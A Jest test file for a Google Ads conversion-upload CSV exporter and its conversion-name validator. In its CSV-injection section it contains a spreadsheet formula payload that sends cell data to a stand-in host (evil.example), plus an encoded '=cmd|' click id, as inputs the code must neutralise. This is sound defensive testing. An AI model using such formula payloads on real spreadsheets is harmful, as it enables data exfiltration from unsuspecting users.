/** @jest-environment node */
import { adParameters } from '@/lib/leads/attribution';
import { leadRow, type StoredLead } from '../store/lead-store';
import { sampleAdmission, sampleLead } from '@/test-support/sample-lead';
import { conversionName, conversionNameProblems } from '@/lib/validations/conversion-name';
import { toGoogleAdsCsv, type ConversionLead } from './google-ads-export';

/** A new lead that landed on `landing_url` and was received at `received_at`. */
const stored = (
  id: number,
  landing_url: string,
  received_at: string,
): StoredLead & ConversionLead => ({
  ...leadRow(
    id % 2
      ? sampleAdmission({ landing_url, ...adParameters(landing_url) })
      : sampleLead({ landing_url, ...adParameters(landing_url) }),
  ),
  id,
  received_at,
  released_at: null,
  status: 'new',
  status_at: null,
});

const leads = [
  stored(
    1,
    'https://leadwise.example/college/amity/admission?gclid=Cj0KCQiA_abc-123',
    '2026-11-20T04:30:00.000Z',
  ),
  stored(2, 'https://leadwise.example/?utm_source=meta&fbclid=IwAR0', '2026-11-20T05:00:00.000Z'),
  stored(
    3,
    'https://leadwise.example/college/lpu/form?gclid=EAIaIQob&utm_source=google',
    '2026-11-21T18:45:59.999Z',
  ),
  stored(4, 'https://leadwise.example/?gclid=%3Dcmd%7C', '2026-11-22T00:00:00.000Z'),
];

describe("Google Ads' click-conversion upload", () => {
  it('is the template: the time zone row, its columns, a row per Google click in India time', () => {
    const { csv, exported, skipped } = toGoogleAdsCsv(leads, { conversion: 'Admission enquiry' });
    expect(csv).toBe(
      'Parameters:TimeZone=+0530\r\n' +
        'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency\r\n' +
        '"Cj0KCQiA_abc-123","Admission enquiry","2026-11-20 10:00:00","",""\r\n' +
        '"EAIaIQob","Admission enquiry","2026-11-22 00:15:59","",""\r\n',
    );
    expect([exported, skipped]).toEqual([2, 1]);
  });

  it('gives every row the value and currency asked for, each cell quoted', () => {
    const { csv } = toGoogleAdsCsv(leads.slice(0, 1), {
      conversion: 'Enquiry, "qualified"',
      value: { amount: '1500.50', currency: 'INR' },
    });
    expect(csv.split('\r\n')[2]).toBe(
      '"Cj0KCQiA_abc-123","Enquiry, ""qualified""","2026-11-20 10:00:00","1500.50","INR"',
    );
  });

  it("writes a lead's enquiry whatever its status: the status is read, not yet a conversion", () => {
    const worked = leads.map((lead) => ({
      ...lead,
      status: 'won' as const,
      status_at: '2026-11-25T10:00:00.000Z',
    }));
    expect(toGoogleAdsCsv(worked, { conversion: 'Admission enquiry' })).toEqual(
      toGoogleAdsCsv(leads, { conversion: 'Admission enquiry' }),
    );
  });

  it('adds a "Verified lead" row per verified lead with a click where CONVERSION_VERIFIED asks, at its verification', () => {
    const proven = [
      { ...leads[0], verified_at: '2026-11-20T04:32:10.000Z' },
      // A mark taken from an earlier lead of the same phone counts from this lead's arrival.
      { ...leads[2], verified_at: '2026-11-01T09:00:00.000Z' },
      // No Google click: nothing to tell Google of.
      { ...leads[1], verified_at: '2026-11-20T05:01:00.000Z' },
    ];
    const { csv, exported, verified } = toGoogleAdsCsv(
      proven,
      { conversion: 'Admission enquiry', value: { amount: '200', currency: 'INR' } },
      { verified: true },
    );
    expect(csv.split('\r\n').slice(2, -1)).toEqual([
      '"Cj0KCQiA_abc-123","Admission enquiry","2026-11-20 10:00:00","200","INR"',
      '"EAIaIQob","Admission enquiry","2026-11-22 00:15:59","200","INR"',
      '"Cj0KCQiA_abc-123","Verified lead","2026-11-20 10:02:10","",""',
      '"EAIaIQob","Verified lead","2026-11-22 00:15:59","",""',
    ]);
    expect([exported, verified]).toEqual([2, 2]);
    expect(toGoogleAdsCsv(proven, { conversion: 'Admission enquiry' }).csv).not.toContain(
      'Verified lead',
    );
  });

  it('is the template with no rows when no lead came from a Google click', () => {
    expect(toGoogleAdsCsv([leads[1]], { conversion: 'Admission enquiry' }).csv).toBe(
      'Parameters:TimeZone=+0530\r\n' +
        'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency\r\n',
    );
  });
});

describe("Google Ads' file against formula cells (OWASP's CSV injection guidance)", () => {
  const PAYLOAD = '=HYPERLINK("https://evil.example/?c="&A1,"Click")';

  it('never writes a formula from a conversion name or a click id that starts one', () => {
    const { csv, exported, skipped } = toGoogleAdsCsv(
      [stored(5, 'https://leadwise.example/?gclid=-2-3', '2026-11-20T04:30:00.000Z'), leads[0]],
      { conversion: PAYLOAD },
    );
    const rows = csv.split('\r\n').slice(2, -1);
    expect(rows).toEqual([
      `"Cj0KCQiA_abc-123","'=HYPERLINK(""https://evil.example/?c=""&A1,""Click"")","2026-11-20 10:00:00","",""`,
    ]);
    expect([exported, skipped]).toEqual([1, 1]);
  });
});

describe("The conversion action's name", () => {
  it('takes a name as Google Ads spells it, trimmed', () => {
    expect(conversionName('  Admission enquiry (Amity) – 2026 ')).toEqual({
      ok: true,
      name: 'Admission enquiry (Amity) – 2026',
    });
    expect(conversionName('Enquiry, "qualified"')).toEqual({
      ok: true,
      name: 'Enquiry, "qualified"',
    });
    expect(conversionName('प्रवेश पूछताछ')).toEqual({ ok: true, name: 'प्रवेश पूछताछ' });
  });

  it('refuses a formula, a missing or an overlong name with a clear message and what was typed', () => {
    expect(conversionName('=HYPERLINK("https://evil.example","x")')).toEqual({
      ok: false,
      message: conversionNameProblems.characters,
      typed: '=HYPERLINK("https://evil.example","x")',
    });
    expect(conversionName('+Enquiry')).toMatchObject({ ok: false });
    expect(conversionName('Enquiry =1+1')).toMatchObject({ ok: false });
    expect(conversionName('Lead @ Amity')).toMatchObject({ ok: false });
    expect(conversionName('   ')).toMatchObject({
      ok: false,
      message: conversionNameProblems.missing,
    });
    expect(conversionName(null)).toMatchObject({
      ok: false,
      message: conversionNameProblems.missing,
    });
    expect(conversionName('a'.repeat(101))).toMatchObject({
      ok: false,
      message: conversionNameProblems.tooLong,
    });
  });
});
